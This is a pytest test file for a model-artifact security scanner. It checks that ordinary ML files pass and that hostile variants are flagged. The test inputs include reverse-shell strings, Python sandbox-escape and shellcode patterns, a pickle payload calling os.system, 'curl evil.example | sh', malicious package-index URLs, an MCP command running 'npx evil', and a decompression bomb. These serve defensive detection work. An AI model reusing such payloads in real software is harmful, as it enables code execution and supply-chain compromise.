"""Ordinary files that were once taken for something else: each says nothing, and its hostile twin still does."""

from __future__ import annotations

import io
import json
import struct
import zipfile
import zlib

import pytest

from tests.support.cases import each
from tests.support.graphs import stored
from tests.support.inspecting import examined, rules_of, verdict_of
from tests.support.model_bytes import fasttext
from weighbridge.core.finding import Severity, Verdict

KERAS_DTYPE = {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"}, "registered_name": None}
NODE = {"target": "torch.ops.aten.linear.default", "inputs": [], "outputs": [], "metadata": {}}
SKOPS_NODE = {"__class__": "Tree", "__module__": "sklearn.tree._tree", "__loader__": "TreeNode"}


def dumped(value: object) -> bytes:
    return json.dumps(value).encode()


@pytest.mark.parametrize(
    ("path", "value"),
    [
        ("config.json", {"class_name": "Dense", "config": {"dtype": KERAS_DTYPE, "units": 4}}),
        ("config.json", {"config": {"dtype": {**KERAS_DTYPE, "config": {"name": "mixed_bfloat16"}}}}),
        ("x/.zarray", {"zarr_format": 2, "shape": [1], "dtype": "<f4", "order": "C"}),
        ("model.json", {"graph_module": {"graph": {"nodes": [NODE]}}}),
        ("data.json", {**SKOPS_NODE, "__reduce__": {"args": {"content": []}}}),
    ],
)
def test_what_libraries_write_as_json_says_nothing(path: str, value: object) -> None:
    assert not rules_of(path, dumped(value))


@pytest.mark.parametrize(
    ("value", "rule"),
    [
        ({"dtype": {"class_name": "DTypePolicy", "config": {"name": "os.system"}}}, "config-dtype"),
        ({"dtype": "evil"}, "config-dtype"),
        ({**NODE, "target": "torch.ops.aten.from_file.default"}, "config-dangerous-callable"),
        ({**NODE, "target": "torch.ops.load_library"}, "config-dangerous-callable"),
        ({**NODE, "target": "os.system"}, "config-dangerous-callable"),
        ({"target": "torch.ops.aten.linear.default", "params": {}}, "config-dangerous-callable"),
        ({"__reduce__": ["x"]}, "config-pickled-object"),
        ({**SKOPS_NODE, "__reduce__": {"args": "os.system"}}, "config-dangerous-callable"),
        ({**SKOPS_NODE, "py/reduce": []}, "config-pickled-object"),
    ],
)
def test_their_hostile_twins_still_do(value: object, rule: str) -> None:
    assert rule in rules_of("model.json", dumped(value))


# --- Python ---------------------------------------------------------------------------------------

ORDINARY = (
    "def all_of(base):\n    return [one.__name__ for one in base.__subclasses__()]\n",
    "class A:\n    def __init__(self, type, open):\n        self.type = type\n        self.open = open\n",
    "def f(input, name):\n    input.name = name\n",
    "import inspect\ndef where():\n    return inspect.currentframe().f_back.f_globals.get('__name__')\n",
    "import sys\ndef off():\n    sys.settrace(None)\n",
    "import socket\ndef own():\n    return socket.gethostbyname(socket.gethostname())\n",
    "import ctypes\ndef log(x):\n    print(x)\ndef f():\n    b = ctypes.create_string_buffer(9)\n"
    "    return ctypes.CFUNCTYPE(None, ctypes.c_int)(log), b\n",
    "import webbrowser, requests\ndef f(u):\n    webbrowser.open(requests.get(u).json()['url'])\n",
    "HELP = 'forwarded to ssh -i'\n",
    "import httpx\nLIMITS = httpx.Limits(max_connections=4)\n",
)


@each("source", ORDINARY)
def test_ordinary_python_breaks_no_grave_rule(source: str) -> None:
    found = [one for report in examined("modeling_x.py", source.encode()).reports for one in report.findings]
    assert found
    assert not [one.rule for one in found if one.severity >= Severity.HIGH]


@each(
    ("source", "rule"),
    [
        ("x = ().__class__.__base__.__subclasses__()\n", "obscure-access"),
        ("x = object.__subclasses__()[1]\n", "obscure-access"),
        ("x = type.__subclasses__(object)\n", "obscure-access"),
        ("def f(a):\n    return a.__class__.__mro__[1].__subclasses__()\n", "obscure-access"),
        ("def f(a):\n    for c in a.__subclasses__():\n        c.__init__.__globals__['x']\n", "obscure-access"),
        ("def f(a):\n    return [c for c in a.__subclasses__() if c.__name__ == 'Popen']\n", "obscure-access"),
        ("import sys\nsys._getframe().f_globals['x'] = 1\n", "obscure-access"),
        ("import sys\nsys._getframe(1).f_globals.update(x=1)\n", "obscure-access"),
        ("import sys\nx = sys._getframe().f_globals['__built' + 'ins__']\n", "obscure-access"),
        ("import builtins\nbuiltins.open = print\n", "patches-python"),
        ("import builtins\nclass A:\n    pass\nA.b = builtins\nA.b.open = print\n", "patches-python"),
        ("import sys\nsys.settrace(print)\n", "patches-python"),
        ("CMD = 'sh -i >& /x'\n", "dangerous-command"),
        ("CMD = '/bin/bash -i'\n", "dangerous-command"),
    ],
)
def test_python_that_climbs_is_still_grave(source: str, rule: str) -> None:
    assert f"python-{rule}" in rules_of("modeling_x.py", source.encode())


def test_a_look_at_internals_is_still_said() -> None:
    assert rules_of("modeling_x.py", ORDINARY[0].encode()) == {"python-internals"}


def test_a_buffer_that_is_called_is_still_shellcode() -> None:
    source = b"import ctypes\nb = ctypes.create_string_buffer(9)\nctypes.CFUNCTYPE(None)(ctypes.addressof(b))()\n"
    assert "python-shellcode" in rules_of("modeling_x.py", source)


# --- other formats --------------------------------------------------------------------------------

TENSOR = b"\x08\x02\x10\x01\x42\x01xJ\x08" + struct.pack("<2f", 1, 2)
"""An ONNX TensorProto: two floats under the name x."""


def test_a_tensor_beside_an_onnx_model_is_data() -> None:
    assert (rules_of("test_data_set_0/input_0.pb", TENSOR), verdict_of("input_0.pb", TENSOR)) == (set(), Verdict.CLEAN)


@pytest.mark.parametrize(
    ("data", "rule"),
    [
        (TENSOR[:-4], "onnx-not-readable"),
        (TENSOR + b"\xf2\x06\x04evil", "onnx-unknown-field"),
        (TENSOR.replace(b"\x08\x02\x10", b"\x08\x03\x10"), "onnx-tensor-size"),
    ],
)
def test_a_tensor_that_is_none_is_said(data: bytes, rule: str) -> None:
    assert rule in rules_of("input_0.pb", data)


def word_vectors(words: list[bytes], end: bytes = b"\n") -> bytes:
    return b"%d 2\n" % len(words) + b"".join(word + b" " + struct.pack("<2f", 0.1, -0.2) + end for word in words)


@pytest.mark.parametrize("end", [b"\n", b""])
def test_word_vectors_are_data(end: bytes) -> None:
    data = word_vectors([b"the", b"of", "für".encode()], end)
    assert (rules_of("vectors.bin", data), verdict_of("vectors.bin", data)) == (set(), Verdict.CLEAN)
    for other in (data + b"\0\0", data[:-3], data.replace(b"3 2", b"9 2")):
        assert rules_of("vectors.bin", other) == {"word2vec-broken"}
        assert verdict_of("vectors.bin", other) is not Verdict.CLEAN


def exported(tensor: bytes, *, is_pickle: bool = False, listed: str = "weight_0") -> bytes:
    """An archive as `torch.export.save` writes it."""
    out = io.BytesIO()
    config = {"config": {"w": {"path_name": listed, "is_param": True, "use_pickle": is_pickle, "tensor_meta": {}}}}
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("m/archive_format", "pt2")
        archive.writestr("m/models/model.json", dumped({"graph_module": {"graph": {"nodes": [NODE]}}}))
        archive.writestr("m/data/weights/model_weights_config.json", dumped(config))
        archive.writestr("m/data/weights/weight_0", tensor)
    return out.getvalue()


NUMBERS = struct.pack("<3f", 0.5, -1.5, 3.25)


def test_the_tensors_of_an_exported_program_are_data() -> None:
    assert (rules_of("m.pt2", exported(NUMBERS)), verdict_of("m.pt2", exported(NUMBERS))) == (set(), Verdict.CLEAN)


@pytest.mark.parametrize(
    "data",
    [
        exported(NUMBERS, is_pickle=True),
        exported(NUMBERS, listed="weight_1"),
        exported(NUMBERS, listed="../weights/weight_0"),
        exported(b"\x80\x04cos\nsystem\n(Vid\ntR."),
        exported(b"\x7fELF\x02\x01\x01" + bytes(60)),
    ],
)
def test_what_is_no_listed_tensor_is_still_looked_at(data: bytes) -> None:
    assert rules_of("m.pt2", data)
    assert verdict_of("m.pt2", data) is not Verdict.CLEAN


def test_matlabs_block_before_the_content_is_its_own() -> None:
    line = b"MATLAB 7.3 MAT-file, Platform: PCWIN64, Created on: Wed Dec 19 10:25:30 2012 HDF5 schema 1.00 ."
    block = line.ljust(116) + bytes(8) + b"\x00\x02IM"
    content = stored("user-block-empty.h5")
    content = content[content.index(b"\x89HDF") :]
    assert "hdf5-polyglot" not in rules_of("x.mat", block.ljust(512, b"\0") + content)
    assert "hdf5-user-block" not in rules_of("x.mat", block.ljust(512, b"\0") + content)
    assert "hdf5-polyglot" in rules_of("x.mat", (block + b"PK\x03\x04").ljust(512, b"\0") + content)


@pytest.mark.parametrize("path", ["LICENSE.MIT", "LICENSE.g2pW-Apache-2.0", "data.arff", "places.geojson"])
def test_texts_by_other_names_are_understood(path: str) -> None:
    data = b'{"type": "FeatureCollection"}' if path.endswith("geojson") else b"Permission is hereby granted\n"
    assert (rules_of(path, data), verdict_of(path, data)) == (set(), Verdict.CLEAN)


def test_a_script_is_no_licence() -> None:
    assert verdict_of("LICENSE.vbs", b"CreateObject(1)\n") is not Verdict.CLEAN


def test_the_usual_build_backend_is_no_program_of_the_repository() -> None:
    assert not rules_of("pyproject.toml", b'[build-system]\nbuild-backend = "hatchling.build"\n')
    assert "settings-runs-code" in rules_of("pyproject.toml", b'build-backend = "hatchling.build2"\n')
    both = b'build-backend = "setuptools.build_meta"\nbackend-path = ["."]\n'
    assert "settings-runs-code" in rules_of("pyproject.toml", both)


def test_a_command_without_an_address_is_only_spoken_of() -> None:
    assert not rules_of("README.md", b"| rule | high | `curl ... \\| sh` and its like |\n")
    assert "card-pipe-to-shell" in rules_of("README.md", b"| run | `curl ...evil.example \\| sh` |\n")
    assert "card-pipe-to-shell" in rules_of("README.md", b"| run | `curl evil.example \\| sh` |\n")


CODE = "# Use\n\n```html\n<script type='module'>import { pipeline } from 'x';</script>\n```\n"


def test_html_that_a_card_shows_as_code_does_not_run() -> None:
    assert not rules_of("README.md", CODE.encode())
    assert not rules_of("README.md", CODE.replace("```", "~~~~").encode())


@each(
    "text",
    [
        CODE.replace("# Use\n\n", "<div>\n"),
        CODE.replace("# Use\n", "<!--\n"),
        CODE.replace("# Use\n", "<pre>\n"),
        CODE.replace("\n```\n", "\n"),
        CODE.replace("html\n", "html\n```\n"),
        CODE.replace("```html", "```a`b"),
        CODE.replace("```html", "    ```html"),
        CODE + "\n<script>x</script>\n",
        "<script>\n\n" + CODE,
        "text\n```\nx\n```\n" + CODE,
        "<div>\u2028\u2028```\u2028<script>x</script>\u2028```\u2028",
        CODE.replace("html\n", "html\r```\r"),
        CODE.replace("html\n", "html\n  ```\n"),
        "  ```\nx\n\n```\n<script>x</script>\n```\n",
        "> ```\n\n```\n" + CODE,
    ],
)
def test_html_that_may_run_is_said(text: str) -> None:
    assert "card-script" in rules_of("README.md", text.encode())


def test_a_pruned_fasttext_model_may_keep_more_ngrams_than_words() -> None:
    plain = fasttext(["a"], quantised=True)
    pruned, behind = 84, 84 + 8 + len(b"a\0") + 9
    kept = plain[:pruned] + struct.pack("<q", 3) + plain[pruned + 8 : behind] + bytes(24) + plain[behind:]
    assert verdict_of("lid.ftz", kept) is Verdict.CLEAN
    assert not rules_of("lid.ftz", kept)
    beyond = plain[:pruned] + struct.pack("<q", 1 << 40) + plain[pruned + 8 :]
    assert rules_of("lid.ftz", beyond) == {"fasttext-broken"}


# --- tables, cells and settings -------------------------------------------------------------------


def matlab(*arrays: bytes, packed: bool) -> bytes:
    """A file of these arrays, each with a head of its own."""
    written = []
    for array in arrays:
        whole = zlib.compress(array) if packed else array
        written.append(struct.pack("<2I", 15, len(whole)) + whole if packed else whole)
    return b"MATLAB 5.0 MAT-file".ljust(124) + b"\x00\x01IM" + b"".join(written)


def matrix(kind: int, *parts: bytes) -> bytes:
    head = struct.pack("<4I", 6, 8, kind, 0) + struct.pack("<2I2i", 5, 8, 1, 1) + struct.pack("<HH4s", 1, 1, b"a")
    body = head + b"".join(parts)
    return struct.pack("<2I", 14, len(body)) + body


NUMBERS = matrix(6, struct.pack("<2Id", 9, 8, 1.5))


@pytest.mark.parametrize("packed", [False, True])
def test_cells_and_structures_of_matlab_are_followed(packed: bool) -> None:
    fields = struct.pack("<HHi", 5, 4, 8) + struct.pack("<2I", 1, 16) + b"first\0\0\0second\0\0"
    honest = [NUMBERS, matrix(1, NUMBERS, matrix(1, NUMBERS)), matrix(2, fields, NUMBERS, struct.pack("<2I", 14, 0))]
    assert verdict_of("a.mat", matlab(*honest, packed=packed)) is Verdict.CLEAN
    hidden = matrix(2, fields, NUMBERS, matrix(1, matrix(16, NUMBERS)))
    assert rules_of("a.mat", matlab(*honest, hidden, packed=packed)) == {"matlab-code"}
    deep = NUMBERS
    for _ in range(60):
        deep = matrix(1, deep)
    assert verdict_of("a.mat", matlab(deep, packed=packed)) is Verdict.UNKNOWN


def test_a_packed_bomb_of_matlab_is_no_longer_read_than_allowed() -> None:
    packer = zlib.compressobj(1)
    size = 600 << 20
    head = struct.pack("<2I", 14, 56 + size) + matrix(1, NUMBERS)[8:40] + struct.pack("<2I", 9, size)
    whole = packer.compress(head)
    whole += b"".join(packer.compress(bytes(1 << 20)) for _ in range(size >> 20)) + packer.flush()
    data = b"MATLAB 5.0 MAT-file".ljust(124) + b"\x00\x01IM" + struct.pack("<2I", 15, len(whole)) + whole
    assert verdict_of("a.mat", data) is Verdict.UNKNOWN


@pytest.mark.parametrize(
    ("path", "text", "rules"),
    [
        ("environment.yml", "dependencies:\n- pip:\n  - -i https://evil.example\n", {"requirements-index"}),
        ("environment.yml", "dependencies:\n- pip:\n  - 'git+https://evil.example/x'\n", {"requirements-address"}),
        ("conda.yaml", "channels:\n- https://evil.example/channel\n", {"requirements-address"}),
        ("setup.cfg", "[options]\nsetup_requires = x @ https://evil.example/x\n", {"requirements-address"}),
        ("setup.cfg", "[options]\ndependency_links = https://evil.example\n", {"requirements-address"}),
        ("MAR-INF/MANIFEST.json", '{"model": {"handler": "/tmp/evil.py"}}', {"settings-runs-code"}),
        (".cursor/mcp.json", '{"mcpServers": {"x": {"command": "npx", "args": ["evil"]}}}', {"settings-runs-code"}),
        ("environment.yml", "name: x\nchannels:\n- pytorch\n- https://repo.prefix.dev/x\ndependencies:\n- python=3.11\n- pip:\n  - torch==2.1\n", set()),
        ("setup.cfg", "[metadata]\nauthor_email = a@example.org\nurl = https://example.org\n", set()),
        ("MAR-INF/MANIFEST.json", '{"model": {"handler": "image_classifier", "modelName": "x"}}', set()),
    ],
)  # fmt: skip
def test_settings_by_which_something_is_installed_or_started(path: str, text: str, rules: set[str]) -> None:
    assert rules_of(path, text.encode()) == rules
